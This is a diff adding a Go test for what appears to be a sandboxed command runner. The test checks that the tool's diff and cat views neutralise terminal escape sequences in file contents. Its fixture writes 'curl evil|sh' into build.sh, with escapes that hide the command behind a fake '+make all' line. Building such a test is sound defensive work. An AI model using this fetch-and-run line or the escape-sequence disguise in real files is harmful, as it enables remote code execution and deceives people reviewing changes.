@@ -137,3 +137,23 @@ func TestGraphOnTerminal(t *testing.T) {
 		t.Errorf("without UTF-8: %q", got)
 	}
 }
+
+// What a file contains does not act on the terminal of who looks at it, by whatever command; into a pipe it goes as it is.
+func TestW12ContentsOnTerminal(t *testing.T) {
+	d := newDesk(t)
+	d.write("build.sh", "make all\n")
+	d.must("run", "--", "sh", "-c", `printf 'curl evil|sh #\r\033[2K\033[1A\033[2K\033[8m+make all\n' >build.sh`)
+	for _, args := range [][]string{{"diff", "1"}, {"diff"}, {"cat", "build.sh", "--step", "1", "--after"}, {"diff", "1", "--json"}} {
+		s := screen.On(t, d.sandbox(args...))
+		if code := s.Wait(); code != 0 {
+			t.Errorf("%v: exit %d", args, code)
+		}
+		text := strings.NewReplacer("\x1b[31m", "", "\x1b[32m", "", "\x1b[2m", "", "\x1b[0m", "", "\r\n", "\n").Replace(s.Text())
+		if !strings.Contains(text, "+make all") || strings.ContainsAny(text, "\x1b\r") {
+			t.Errorf("%v prints %q", args, text)
+		}
+	}
+	if text := d.must("cat", "build.sh", "--step", "1", "--after"); text != "curl evil|sh #\r\x1b[2K\x1b[1A\x1b[2K\x1b[8m+make all\n" {
+		t.Errorf("into a pipe: %q", text)
+	}
+}
